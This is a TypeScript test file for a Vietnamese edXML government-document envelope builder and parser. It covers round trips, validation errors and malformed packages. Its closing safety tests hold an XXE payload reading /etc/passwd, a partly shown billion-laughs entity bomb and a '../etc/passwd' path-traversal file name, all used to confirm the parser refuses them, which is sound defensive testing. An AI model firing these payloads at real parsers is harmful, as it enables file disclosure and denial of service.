import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { EdxmlAttachmentInput, EdxmlDocument, EdxmlDocumentInput } from './edxml.schema.js';
import { buildEdxmlEnvelope, edxmlDocumentIdOf, parseEdxmlEnvelope } from './envelope.js';

const SENT_AT = new Date('2025-10-08T02:15:30Z');

/** Every field filled, with diacritics, XML metacharacters and a CRLF line break where they can occur. */
const outgoing: EdxmlDocument = {
  from: {
    organId: '000.00.00.H56',
    organName: 'Ủy ban nhân dân tỉnh Thanh Hóa',
    organizationInCharge: 'Chính phủ',
    organAdd: 'Số 35 Đại lộ Lê Lợi, phường Hạc Thành, tỉnh Thanh Hóa',
    email: 'vanthu@thanhhoa.gov.vn',
    telephone: '0237 3852 000',
    fax: '0237 3852 001',
    website: 'thanhhoa.gov.vn',
  },
  to: [
    { organId: '000.00.00.G22', organName: 'Văn phòng Chính phủ' },
    { organId: '000.00.14.H56', organName: 'Sở Nội vụ tỉnh Thanh Hóa' },
  ],
  codeNumber: '1234',
  codeNotation: 'UBND-KSTTHC',
  promulgationPlace: 'Thanh Hóa',
  promulgationDate: '2025-10-08',
  documentType: { type: 1, typeDetail: 0, typeName: 'Công văn' },
  subject: 'V/v báo cáo tình hình kết nối, liên thông văn bản — trả lời Công văn số 7816/VPCP-TTĐT',
  content: 'Ủy ban nhân dân tỉnh báo cáo như sau:\r\n1. Đã kết nối 166/166 xã, phường.\n2. Văn bản <đúng hạn> & "đủ" đạt 100%.',
  author: { function: 'Chuyên viên', fullName: 'Lê Văn Cường' },
  signer: { competence: 'TM. ỦY BAN NHÂN DÂN', position: 'Chủ tịch', fullName: 'Nguyễn Văn An' },
  dueDate: '2025-10-20',
  toPlaces: ['Như trên;', 'Lưu: VT, KSTTHC.'],
  priority: 2,
  sphereOfPromulgation: 'Liên thông văn bản quốc gia',
  typerNotation: 'LVC',
  promulgationAmount: 3,
  pageAmount: 4,
  appendixes: ['Phụ lục I: Danh sách xã, phường đã kết nối'],
  steeringType: 1,
  responseFor: [
    {
      organId: '000.00.00.G22',
      code: '7816/VPCP-TTĐT',
      promulgationDate: '2025-09-30',
      documentId: '000.00.00.G22,2025/09/30,7816/VPCP-TTĐT',
    },
  ],
  business: { type: 'new', reason: 'Văn bản điện tử mới' },
};

const minimalOutgoing: EdxmlDocument = {
  from: { organId: '000.00.00.H56', organName: 'Ủy ban nhân dân tỉnh Thanh Hóa' },
  to: [{ organId: '000.00.14.H56', organName: 'Sở Nội vụ tỉnh Thanh Hóa' }],
  codeNumber: '05',
  codeNotation: 'UBND-VP',
  promulgationPlace: 'Thanh Hóa',
  promulgationDate: '2025-01-06',
  documentType: { type: 1, typeName: 'Công văn' },
  subject: 'V/v kiểm tra',
  signer: { fullName: 'Nguyễn Văn An' },
  toPlaces: [],
  priority: 0,
  appendixes: [],
  responseFor: [],
  business: { type: 'new' },
};

/** Deterministic pseudo-random bytes, enough to cross the encoder's internal chunk size several times. */
function noise(length: number): Uint8Array {
  const bytes = new Uint8Array(length);
  let state = 20251008;
  for (let i = 0; i < length; i++) {
    state = (state * 1103515245 + 12345) >>> 0;
    bytes[i] = state >>> 24;
  }
  return bytes;
}

const attachments: EdxmlAttachmentInput[] = [
  {
    name: 'Công văn 1234-UBND-KSTTHC (bản ký số).pdf',
    contentType: 'application/pdf',
    description: 'Văn bản chính',
    bytes: noise(100_003),
  },
  {
    name: 'Phụ lục I – danh sách xã, phường.bin',
    contentType: 'application/octet-stream',
    bytes: Uint8Array.from({ length: 256 }, (_, i) => i),
  },
  { name: 'tệp rỗng.txt', contentType: 'text/plain', bytes: new Uint8Array() },
];

function built(document: EdxmlDocumentInput = outgoing, files: EdxmlAttachmentInput[] = attachments): string {
  const result = buildEdxmlEnvelope(document, files, { sentAt: SENT_AT });
  if (!result.ok) throw result.error;
  return result.value;
}

const fixture = readFileSync(new URL('./fixtures/incoming-cong-van.edxml', import.meta.url), 'utf8');

describe('buildEdxmlEnvelope and parseEdxmlEnvelope', () => {
  it('round-trips every metadata field and keeps every attachment byte-identical', () => {
    const received = parseEdxmlEnvelope(built());

    expect(received.ok).toBe(true);
    if (!received.ok) return;
    expect(received.value.document).toEqual(outgoing);
    expect(received.value.documentId).toBe('000.00.00.H56,2025/10/08,1234/UBND-KSTTHC');
    expect(received.value.attachments).toEqual(
      attachments.map((file, index) => ({ ...file, contentId: `cid:${index + 1}` })),
    );
    const allByteValues = received.value.attachments[1]?.bytes;
    expect(allByteValues).toBeInstanceOf(Uint8Array);
    expect(Array.from(allByteValues ?? [])).toEqual(Array.from({ length: 256 }, (_, i) => i));
    expect(received.value.trace).toEqual([{ organId: '000.00.00.H56', at: SENT_AT }]);
    expect(received.value.signed).toBe(false);
  });

  it('round-trips a document with only the required fields', () => {
    const received = parseEdxmlEnvelope(built(minimalOutgoing, []));

    expect(received.ok && received.value.document).toEqual(minimalOutgoing);
    expect(received.ok && received.value.attachments).toEqual([]);
  });

  it('fills the defaults of optional lists, priority and business type', () => {
    const { toPlaces: _a, priority: _b, appendixes: _c, responseFor: _d, business: _e, ...bare } = minimalOutgoing;
    const received = parseEdxmlEnvelope(built(bare, []));

    expect(received.ok && received.value.document).toEqual(minimalOutgoing);
  });

  it('writes the layout of the reference: namespace, prefixes, DocumentId, slash dates, Vietnam-time trace', () => {
    const xml = built();

    expect(xml.startsWith('<?xml version="1.0" encoding="UTF-8"?>\n<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016"')).toBe(true);
    expect(xml).toContain('<edXML:DocumentId>000.00.00.H56,2025/10/08,1234/UBND-KSTTHC</edXML:DocumentId>');
    expect(xml).toContain('<edXML:PromulgationDate>2025/10/08</edXML:PromulgationDate>');
    expect(xml).toContain('<edXML:Timestamp>2025/10/08 09:15:30</edXML:Timestamp>');
    expect(xml).toContain('<edXML:BussinessDocType>0</edXML:BussinessDocType>');
    expect(xml).toContain('<edXML:edXMLManifest version="1.0">');
    expect(xml).toContain('<ContentId>cid:2</ContentId>');
    expect(xml).toContain('<edXML:ContentTransferEncoded>AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8gISIjJCUmJygpKissLS4vMDEyMzQ1Njc4OTo7PD0+P0BBQkNERUZHSElKS0xNTk9QUVJTVFVWV1hZWltcXV5fYGFiY2RlZmdoaWprbG1ub3BxcnN0dXZ3eHl6e3x9fn+AgYKDhIWGh4iJiouMjY6PkJGSk5SVlpeYmZqbnJ2en6ChoqOkpaanqKmqq6ytrq+wsbKztLW2t7i5uru8vb6/wMHCw8TFxsfIycrLzM3Oz9DR0tPU1dbX2Nna29zd3t/g4eLj5OXm5+jp6uvs7e7v8PHy8/T19vf4+fr7/P3+/w==</edXML:ContentTransferEncoded>');
    expect(xml).toContain('<edXML:Content>Ủy ban nhân dân tỉnh báo cáo như sau:&#13;\n1.');
    expect(xml).toContain('Văn bản &lt;đúng hạn&gt; &amp; "đủ"');
  });

  it('writes the business type of a replacement as its wire number', () => {
    const xml = built({ ...minimalOutgoing, business: { type: 'replace', reason: 'Thay thế do sai sót' } }, []);

    expect(xml).toContain('<edXML:BussinessDocType>3</edXML:BussinessDocType>');
    const received = parseEdxmlEnvelope(xml);
    expect(received.ok && received.value.document.business).toEqual({ type: 'replace', reason: 'Thay thế do sai sót' });
  });

  it('keeps characters outside the Basic Multilingual Plane, such as chữ Nôm', () => {
    const subject = 'V/v số hóa tư liệu chữ Nôm 𡨸喃 của xã';

    const received = parseEdxmlEnvelope(built({ ...minimalOutgoing, subject }, []));

    expect(received.ok && received.value.document.subject).toBe(subject);
  });

  it('collapses white space in one-line fields before writing them', () => {
    const received = parseEdxmlEnvelope(built({ ...minimalOutgoing, subject: '  V/v   kiểm tra\n  định kỳ ' }, []));

    expect(received.ok && received.value.document.subject).toBe('V/v kiểm tra định kỳ');
  });
});

describe('buildEdxmlEnvelope', () => {
  const problems = (document: unknown, files: unknown[] = []) => {
    const result = buildEdxmlEnvelope(document as EdxmlDocument, files as EdxmlAttachmentInput[], { sentAt: SENT_AT });
    return result.ok ? undefined : { code: result.error.code, issues: result.error.details['issues'] };
  };

  it('refuses an organisation identifier that is not the 13-character mã định danh', () => {
    const result = problems({ ...minimalOutgoing, from: { organId: '28.22.H17', organName: 'UBND xã' } });

    expect(result).toEqual({
      code: 'EDXML_INVALID_DOCUMENT',
      issues: [{ path: 'document.from.organId', message: 'Mã định danh cơ quan phải có dạng 000.00.00.H56 (13 ký tự, chữ in hoa)' }],
    });
  });

  it('lists every problem at once, in Vietnamese', () => {
    const result = problems({
      ...minimalOutgoing,
      to: [minimalOutgoing.to[0], minimalOutgoing.to[0]],
      codeNotation: 'UBND, VP',
      subject: 'x'.repeat(501),
      dueDate: '2024-12-31',
      unknownField: true,
    });

    expect(result?.code).toBe('EDXML_INVALID_DOCUMENT');
    expect(result?.issues).toEqual(
      expect.arrayContaining([
        { path: 'document.codeNotation', message: 'Ký hiệu văn bản không được chứa dấu cách hay dấu phẩy' },
        { path: 'document.subject', message: 'Trích yếu dài quá 500 ký tự' },
        { path: 'document', message: expect.stringContaining('unknownField') },
      ]),
    );
  });

  it('refuses a recipient listed twice and a due date before the document date', () => {
    const result = problems({ ...minimalOutgoing, to: [minimalOutgoing.to[0], minimalOutgoing.to[0]], dueDate: '2024-12-31' });

    expect(result?.issues).toEqual([
      { path: 'document.to.1.organId', message: 'Cơ quan nhận 000.00.14.H56 bị lặp' },
      { path: 'document.dueDate', message: 'Hạn xử lý không được trước ngày ban hành' },
    ]);
  });

  it('refuses a document without recipients, number or subject', () => {
    const { subject: _subject, ...withoutSubject } = minimalOutgoing;
    const result = problems({ ...withoutSubject, to: [], codeNumber: '12a' });

    expect(result?.issues).toEqual([
      { path: 'document.to', message: 'Cần ít nhất một cơ quan nhận' },
      { path: 'document.codeNumber', message: 'Số văn bản chỉ gồm chữ số, tối đa 11 chữ số' },
      { path: 'document.subject', message: 'Trích yếu là bắt buộc' },
    ]);
  });

  it('refuses characters that XML cannot carry', () => {
    const result = problems({
      ...minimalOutgoing,
      promulgationPlace: 'Thanh Hóa\uFFFE',
      subject: 'V/v\u0007 kiểm tra',
      content: 'a\uD800b',
      signer: { fullName: '\uDC00' },
    });

    expect(result?.issues).toEqual([
      { path: 'document.promulgationPlace', message: 'Địa danh ban hành chứa ký tự không dùng được trong XML' },
      { path: 'document.subject', message: 'Trích yếu chứa ký tự không dùng được trong XML' },
      { path: 'document.content', message: 'Nội dung tóm tắt chứa ký tự không dùng được trong XML' },
      { path: 'document.signer.fullName', message: 'Họ tên người ký chứa ký tự không dùng được trong XML' },
    ]);
  });

  it('refuses blank text and out-of-range numbers', () => {
    const result = problems({ ...minimalOutgoing, promulgationPlace: '   ', priority: 4, pageAmount: 0 });

    expect(result?.issues).toEqual([
      { path: 'document.promulgationPlace', message: 'Địa danh ban hành không được để trống' },
      { path: 'document.priority', message: 'Độ khẩn phải là 0, 1, 2 hoặc 3' },
      { path: 'document.pageAmount', message: expect.any(String) },
    ]);
  });

  it('refuses duplicate file names, path separators, a malformed MIME type and content that is not bytes', () => {
    const file = { name: 'Quyết định.pdf', contentType: 'application/pdf', bytes: new Uint8Array([1]) };
    const result = problems(minimalOutgoing, [
      file,
      file,
      { ...file, name: '../etc/passwd' },
      { ...file, name: 'a.pdf', contentType: 'pdf' },
      { ...file, name: 'b.pdf', bytes: [1, 2] },
    ]);

    expect(result?.issues).toEqual([
      { path: 'attachments.2.name', message: 'Tên tệp không được chứa / hoặc \\' },
      { path: 'attachments.3.contentType', message: 'Kiểu tệp phải có dạng loại/kiểu, ví dụ application/pdf' },
      { path: 'attachments.4.bytes', message: 'Nội dung tệp phải là Uint8Array' },
    ]);
    const duplicates = problems(minimalOutgoing, [file, file]);
    expect(duplicates?.issues).toEqual([{ path: 'attachments.1.name', message: 'Tên tệp "Quyết định.pdf" bị lặp' }]);
  });

  it('refuses an invalid sending time', () => {
    const result = buildEdxmlEnvelope(minimalOutgoing, [], { sentAt: new Date('not a date') });

    expect(!result.ok && result.error.details['issues']).toEqual([
      { path: 'sentAt', message: 'Thời điểm gửi phải là một thời điểm hợp lệ' },
    ]);
  });

  it('refuses more attachments than the limit before reading them', () => {
    const files = Array.from({ length: 3 }, (_, i) => ({ name: `${i}.txt`, contentType: 'text/plain', bytes: new Uint8Array() }));
    const result = buildEdxmlEnvelope(minimalOutgoing, files, { sentAt: SENT_AT, limits: { maxAttachments: 2 } });

    expect(!result.ok && result.error.code).toBe('EDXML_TOO_MANY_ATTACHMENTS');
    expect(!result.ok && result.error.messageVi).toBe('Gói edXML có 3 tệp đính kèm, vượt giới hạn 2 tệp');
  });

  it('refuses to build a package larger than a receiver with the same limits would accept', () => {
    const file = { name: 'scan.pdf', contentType: 'application/pdf', bytes: new Uint8Array(3000) };
    const result = buildEdxmlEnvelope(minimalOutgoing, [file], { sentAt: SENT_AT, limits: { maxBytes: 4000 } });

    expect(!result.ok && result.error.code).toBe('EDXML_TOO_LARGE');
  });
});

describe('edxmlDocumentIdOf', () => {
  it('joins organisation, slash date and number/notation with commas', () => {
    expect(edxmlDocumentIdOf(minimalOutgoing)).toBe('000.00.00.H56,2025/01/06,05/UBND-VP');
  });
});

describe('parseEdxmlEnvelope on received packages', () => {
  const expectedFixtureDocument: EdxmlDocument = {
    from: {
      organId: '000.00.00.G22',
      organName: 'Văn phòng Chính phủ',
      organizationInCharge: 'Chính phủ',
      organAdd: 'Số 1 Hoàng Hoa Thám, Ba Đình, Hà Nội',
      email: 'vanthu@chinhphu.vn',
      telephone: '024 3823 4567',
      website: 'chinhphu.vn',
    },
    to: [
      { organId: '000.00.00.H56', organName: 'Ủy ban nhân dân tỉnh Thanh Hóa' },
      { organId: '000.00.00.H41', organName: 'Ủy ban nhân dân tỉnh Nghệ An' },
    ],
    codeNumber: '7816',
    codeNotation: 'VPCP-TTĐT',
    promulgationPlace: 'Hà Nội',
    promulgationDate: '2025-09-30',
    documentType: { type: 1, typeDetail: 0, typeName: 'Công văn' },
    subject: 'V/v báo cáo tình hình kết nối, liên thông phần mềm quản lý văn bản',
    content: 'Đề nghị Ủy ban nhân dân các tỉnh báo cáo trước ngày 15/10/2025.\nMẫu báo cáo gửi kèm.',
    author: { function: 'Chuyên viên', fullName: 'Trần Thị Bình' },
    signer: { competence: 'KT. BỘ TRƯỞNG, CHỦ NHIỆM', position: 'Phó Chủ nhiệm', fullName: 'Nguyễn Văn Phúc' },
    dueDate: '2025-10-15',
    toPlaces: ['Như trên;', 'Lưu: VT, TTĐT.'],
    priority: 1,
    sphereOfPromulgation: 'Liên thông văn bản quốc gia',
    typerNotation: 'TVC',
    promulgationAmount: 65,
    pageAmount: 2,
    appendixes: ['Mẫu báo cáo tình hình kết nối, liên thông'],
    steeringType: 1,
    responseFor: [
      {
        organId: '000.00.00.H56',
        code: '45/UBND-VP',
        promulgationDate: '2025-09-12',
        documentId: '000.00.00.H56,2025/09/12,45/UBND-VP',
      },
    ],
    business: { type: 'new', reason: 'Văn bản điện tử mới' },
  };

  it('reads a realistic incoming công văn into metadata, trace and files', () => {
    const received = parseEdxmlEnvelope(fixture);

    expect(received.ok).toBe(true);
    if (!received.ok) return;
    expect(received.value.document).toEqual(expectedFixtureDocument);
    expect(received.value.documentId).toBe('000.00.00.G22,2025/09/30,7816/VPCP-TTĐT');
    expect(received.value.signed).toBe(true);
    expect(received.value.trace).toEqual([
      { organId: '000.00.00.G22', at: new Date('2025-09-30T09:45:10Z') },
      { organId: '000.00.00.H56', at: new Date('2025-09-30T09:47:02Z') },
    ]);
    const [letter, form] = received.value.attachments;
    expect(letter).toMatchObject({
      contentId: 'cid:7816-1',
      name: '7816-VPCP-TTĐT.txt',
      contentType: 'text/plain',
      description: 'Nội dung công văn',
    });
    expect(new TextDecoder().decode(letter?.bytes)).toMatch(/^Kính gửi: Ủy ban nhân dân tỉnh Thanh Hóa\.\nThực hiện/);
    // The second file names itself only in the manifest.
    expect(form).toMatchObject({ contentId: 'cid:7816-2', name: 'Mẫu báo cáo.pdf', contentType: 'application/pdf' });
    expect(form && 'description' in form).toBe(false);
    expect(new TextDecoder('latin1').decode(form?.bytes).startsWith('%PDF-1.4\n%âãÏÓ')).toBe(true);
  });

  it('reads the same package written with another namespace prefix and an upper-case root', () => {
    const variant = fixture
      .replaceAll('edXML:', 'ns2:')
      .replaceAll('xmlns:edXML=', 'xmlns:ns2=')
      .replace('<edXML xmlns=', '<EdXML xmlns=')
      .replace('</edXML>', '</EdXML>');

    const received = parseEdxmlEnvelope(variant);

    expect(variant).toContain('<ns2:Subject>');
    expect(received.ok && received.value.document).toEqual(expectedFixtureDocument);
    expect(received.ok && received.value.attachments.map((file) => file.name)).toEqual(['7816-VPCP-TTĐT.txt', 'Mẫu báo cáo.pdf']);
  });

  it('reads the older Envelope/Header path with the files in the body and no DocumentId', () => {
    const xml = `<Envelope>
  <Header>
    <MessageHeader>
      <From><OrganId>000.00.00.G22</OrganId><OrganizationInCharge>Văn phòng Chính phủ</OrganizationInCharge></From>
      <Code><CodeNumber>15</CodeNumber><CodeNotation>VPCP-HC</CodeNotation></Code>
      <PromulgationInfo><Place>Hà Nội</Place><PromulgationDate>2025-03-05</PromulgationDate></PromulgationInfo>
      <DocumentType><Type>1</Type><TypeName>Công văn</TypeName></DocumentType>
      <Subject>V/v thử nghiệm</Subject>
      <SignerInfo><FullName>Nguyễn Văn An</FullName></SignerInfo>
      <Author />
    </MessageHeader>
    <Signature><SignatureValue>AAAA</SignatureValue></Signature>
  </Header>
  <Body>
    <AttachmentEncoded>
      <Attachment><ContentId>cid:1</ContentId><AttachmentName>a.txt</AttachmentName><ContentTransferEncoded>YQ==</ContentTransferEncoded></Attachment>
    </AttachmentEncoded>
  </Body>
</Envelope>`;

    const received = parseEdxmlEnvelope(xml);

    expect(received.ok).toBe(true);
    if (!received.ok) return;
    expect(received.value.documentId).toBe('000.00.00.G22,2025/03/05,15/VPCP-HC');
    expect(received.value.document.from).toEqual({
      organId: '000.00.00.G22',
      organName: 'Văn phòng Chính phủ',
      organizationInCharge: 'Văn phòng Chính phủ',
    });
    expect(received.value.document.to).toEqual([]);
    expect(received.value.document.author).toBeUndefined();
    expect(received.value.signed).toBe(true);
    expect(received.value.trace).toEqual([]);
    expect(received.value.attachments).toEqual([
      { contentId: 'cid:1', name: 'a.txt', contentType: 'application/octet-stream', bytes: new Uint8Array([97]) },
    ]);
  });

  it('reads the envelope as root with character references decoded', () => {
    const xml = built(minimalOutgoing, [])
      .replace(/<edXML xmlns[^>]*>/, '')
      .replace('</edXML>', '')
      .replace('<edXML:edXMLEnvelope>', '<edXML:edXMLEnvelope xmlns:edXML="http://www.mic.gov.vn/TBT/QCVN_102_2016">')
      .replace('V/v kiểm tra', 'V/v ki&#7875;m tra &#x110;&#7883;nh k&#7923;');

    const received = parseEdxmlEnvelope(xml);

    expect(received.ok && received.value.document.subject).toBe('V/v kiểm tra Định kỳ');
  });
});

/** A small valid package; each failure case below breaks one part of it. */
const base = `<edXML><edXMLEnvelope><edXMLHeader><MessageHeader>
<From><OrganId>000.00.00.G22</OrganId><OrganName>Văn phòng Chính phủ</OrganName></From>
<To><OrganId>000.00.00.H56</OrganId><OrganName>UBND tỉnh Thanh Hóa</OrganName></To>
<Code><CodeNumber>12</CodeNumber><CodeNotation>VPCP-TH</CodeNotation></Code>
<PromulgationInfo><Place>Hà Nội</Place><PromulgationDate>2025/09/30</PromulgationDate></PromulgationInfo>
<DocumentType><Type>1</Type><TypeDetail>0</TypeDetail><TypeName>Công văn</TypeName></DocumentType>
<Subject>V/v thử</Subject>
<SignerInfo><FullName>Nguyễn Văn An</FullName></SignerInfo>
<DueDate>2025/10/15</DueDate>
<OtherInfo><Priority>1</Priority><PromulgationAmount>2</PromulgationAmount><PageAmount>1</PageAmount></OtherInfo>
<SteeringType>1</SteeringType>
<ResponseFor><OrganId>000.00.00.H56</OrganId><Code>45/UBND-VP</Code><PromulgationDate>2025/09/12</PromulgationDate><DocumentId>X</DocumentId></ResponseFor>
</MessageHeader>
<TraceHeaderList><TraceHeader><OrganId>000.00.00.G22</OrganId><Timestamp>2025/09/30 16:45:10</Timestamp></TraceHeader>
<Bussiness><BussinessDocType>0</BussinessDocType></Bussiness></TraceHeaderList>
</edXMLHeader>
<edXMLBody><edXMLManifest><Reference><ContentId>cid:1</ContentId><AttachmentName>a.txt</AttachmentName></Reference></edXMLManifest></edXMLBody>
</edXMLEnvelope>
<AttachmentEncoded><Attachment><ContentId>cid:1</ContentId><AttachmentName>a.txt</AttachmentName><ContentTransferEncoded>YWJj</ContentTransferEncoded></Attachment></AttachmentEncoded>
</edXML>`;

describe('parseEdxmlEnvelope on packages it must refuse', () => {
  it('accepts the base package the failure cases start from', () => {
    expect(parseEdxmlEnvelope(base).ok).toBe(true);
  });

  it.each([
    ['no MessageHeader', base.replace(/<MessageHeader>[\s\S]*<\/MessageHeader>/, ''), 'EDXML_FIELD_MISSING', 'edXMLHeader/MessageHeader'],
    ['no sender', base.replace(/<From>.*<\/From>/, ''), 'EDXML_FIELD_MISSING', 'MessageHeader/From'],
    ['a sender without identifier', base.replace('<OrganId>000.00.00.G22</OrganId><OrganName>', '<OrganName>'), 'EDXML_FIELD_MISSING', 'MessageHeader/From/OrganId'],
    ['a recipient without a name', base.replace('<OrganName>UBND tỉnh Thanh Hóa</OrganName>', ''), 'EDXML_FIELD_MISSING', 'MessageHeader/To/OrganName'],
    ['no number', base.replace('<CodeNumber>12</CodeNumber>', ''), 'EDXML_FIELD_MISSING', 'MessageHeader/Code/CodeNumber'],
    ['an empty notation', base.replace('<CodeNotation>VPCP-TH</CodeNotation>', '<CodeNotation/>'), 'EDXML_FIELD_MISSING', 'MessageHeader/Code/CodeNotation'],
    ['no place', base.replace('<Place>Hà Nội</Place>', ''), 'EDXML_FIELD_MISSING', 'MessageHeader/PromulgationInfo/Place'],
    ['no date', base.replace('<PromulgationDate>2025/09/30</PromulgationDate>', ''), 'EDXML_FIELD_MISSING', 'MessageHeader/PromulgationInfo/PromulgationDate'],
    ['an impossible date', base.replace('2025/09/30</PromulgationDate>', '2025/02/30</PromulgationDate>'), 'EDXML_FIELD_INVALID', 'MessageHeader/PromulgationInfo/PromulgationDate'],
    ['a document type that is not a number', base.replace('<Type>1</Type>', '<Type>CV</Type>'), 'EDXML_FIELD_INVALID', 'MessageHeader/DocumentType/Type'],
    ['no document type', base.replace('<Type>1</Type>', ''), 'EDXML_FIELD_MISSING', 'MessageHeader/DocumentType/Type'],
    ['a type detail that is not a number', base.replace('<TypeDetail>0</TypeDetail>', '<TypeDetail>-1</TypeDetail>'), 'EDXML_FIELD_INVALID', 'MessageHeader/DocumentType/TypeDetail'],
    ['no type name', base.replace('<TypeName>Công văn</TypeName>', ''), 'EDXML_FIELD_MISSING', 'MessageHeader/DocumentType/TypeName'],
    ['no subject', base.replace('<Subject>V/v thử</Subject>', ''), 'EDXML_FIELD_MISSING', 'MessageHeader/Subject'],
    ['no signer', base.replace(/<SignerInfo>.*<\/SignerInfo>/, ''), 'EDXML_FIELD_MISSING', 'MessageHeader/SignerInfo/FullName'],
    ['an unreadable due date', base.replace('<DueDate>2025/10/15</DueDate>', '<DueDate>sắp tới</DueDate>'), 'EDXML_FIELD_INVALID', 'MessageHeader/DueDate'],
    ['a priority outside 0…3', base.replace('<Priority>1</Priority>', '<Priority>7</Priority>'), 'EDXML_FIELD_INVALID', 'MessageHeader/OtherInfo/Priority'],
    ['an unreadable amount', base.replace('<PromulgationAmount>2</PromulgationAmount>', '<PromulgationAmount>hai</PromulgationAmount>'), 'EDXML_FIELD_INVALID', 'MessageHeader/OtherInfo/PromulgationAmount'],
    ['an unreadable page count', base.replace('<PageAmount>1</PageAmount>', '<PageAmount>1.5</PageAmount>'), 'EDXML_FIELD_INVALID', 'MessageHeader/OtherInfo/PageAmount'],
    ['an unreadable steering type', base.replace('<SteeringType>1</SteeringType>', '<SteeringType>x</SteeringType>'), 'EDXML_FIELD_INVALID', 'MessageHeader/SteeringType'],
    ['a reply without the answered organisation', base.replace('<ResponseFor><OrganId>000.00.00.H56</OrganId>', '<ResponseFor>'), 'EDXML_FIELD_MISSING', 'MessageHeader/ResponseFor/OrganId'],
    ['a reply without the answered code', base.replace('<Code>45/UBND-VP</Code>', '<Code/>'), 'EDXML_FIELD_MISSING', 'MessageHeader/ResponseFor/Code'],
    ['a reply with an unreadable date', base.replace('2025/09/12', '12.09.2025'), 'EDXML_FIELD_INVALID', 'MessageHeader/ResponseFor/PromulgationDate'],
    ['a reply without DocumentId', base.replace('<DocumentId>X</DocumentId>', ''), 'EDXML_FIELD_MISSING', 'MessageHeader/ResponseFor/DocumentId'],
    ['an unknown business type', base.replace('<BussinessDocType>0</BussinessDocType>', '<BussinessDocType>9</BussinessDocType>'), 'EDXML_FIELD_INVALID', 'TraceHeaderList/Bussiness/BussinessDocType'],
    ['an unreadable trace timestamp', base.replace('2025/09/30 16:45:10', '30/09/2025 16:45'), 'EDXML_FIELD_INVALID', 'TraceHeaderList/TraceHeader/Timestamp'],
    ['a file without ContentId', base.replace('<Attachment><ContentId>cid:1</ContentId>', '<Attachment>'), 'EDXML_FIELD_MISSING', 'AttachmentEncoded/Attachment/ContentId'],
    ['a file without content', base.replace('<ContentTransferEncoded>YWJj</ContentTransferEncoded>', ''), 'EDXML_FIELD_MISSING', 'AttachmentEncoded/Attachment[cid:1]/ContentTransferEncoded'],
    ['a file named nowhere', base.replaceAll('<AttachmentName>a.txt</AttachmentName>', ''), 'EDXML_FIELD_MISSING', 'AttachmentEncoded/Attachment[cid:1]/AttachmentName'],
    ['a manifest entry whose file is missing', base.replace('<Reference>', '<Reference><ContentId>cid:2</ContentId></Reference><Reference>'), 'EDXML_FIELD_MISSING', 'AttachmentEncoded/Attachment[cid:2]'],
  ])('refuses %s', (_case, xml, code, field) => {
    const result = parseEdxmlEnvelope(xml);

    expect(!result.ok && result.error.code).toBe(code);
    expect(!result.ok && result.error.details['field']).toBe(field);
  });

  it('names the field and the unreadable value in both languages', () => {
    const result = parseEdxmlEnvelope(base.replace('<Priority>1</Priority>', '<Priority>khẩn</Priority>'));

    expect(!result.ok && result.error.messageVi).toBe(
      'Trường MessageHeader/OtherInfo/Priority của gói edXML có giá trị không đọc được: "khẩn"',
    );
    expect(!result.ok && result.error.messageEn).toBe('The edXML field MessageHeader/OtherInfo/Priority has a value that cannot be read: "khẩn"');
  });

  it('shortens a long unreadable value in the error', () => {
    const result = parseEdxmlEnvelope(base.replace('<Type>1</Type>', `<Type>${'9x'.repeat(100)}</Type>`));

    expect(!result.ok && result.error.details['value']).toBe(`${'9x'.repeat(40)}…`);
  });

  it('reads base64 content that a sender wrapped in CDATA', () => {
    const result = parseEdxmlEnvelope(base.replace('YWJj', ' <![CDATA[YWJj]]>\n'));

    expect(result.ok && result.value.attachments[0]?.bytes).toEqual(new Uint8Array([97, 98, 99]));
  });

  it('refuses a file whose content is not base64', () => {
    const result = parseEdxmlEnvelope(base.replace('YWJj', 'YW*j'));

    expect(!result.ok && result.error.code).toBe('EDXML_ATTACHMENT_ENCODING_INVALID');
    expect(!result.ok && result.error.messageVi).toBe('Tệp đính kèm "a.txt" không được mã hóa base64 đúng cách');
  });

  it('refuses more files than the limit before decoding any', () => {
    const many = base.replace('<AttachmentEncoded>', `<AttachmentEncoded>${'<Attachment><ContentTransferEncoded>!!</ContentTransferEncoded></Attachment>'.repeat(3)}`);

    const result = parseEdxmlEnvelope(many, { maxAttachments: 3 });

    expect(!result.ok && result.error.code).toBe('EDXML_TOO_MANY_ATTACHMENTS');
    expect(!result.ok && result.error.details).toEqual({ count: 4, limit: 3 });
  });

  it('refuses an XML document that is not edXML', () => {
    const result = parseEdxmlEnvelope('<Invoice><Total>1</Total></Invoice>');

    expect(!result.ok && result.error.code).toBe('EDXML_NOT_EDXML');
    expect(!result.ok && result.error.messageVi).toBe('Tài liệu XML có phần tử gốc Invoice, không phải gói edXML');
  });

  it('refuses an edXML wrapper without an envelope', () => {
    const result = parseEdxmlEnvelope('<edXML><Other/></edXML>');

    expect(!result.ok && result.error.code).toBe('EDXML_NOT_EDXML');
  });
});

describe('parseEdxmlEnvelope safety', () => {
  const external = `<?xml version="1.0"?>
<!DOCTYPE edXML [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<edXML><edXMLEnvelope><edXMLHeader><MessageHeader><Subject>&xxe;</Subject></MessageHeader></edXMLHeader></edXMLEnvelope></edXML>`;

  const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
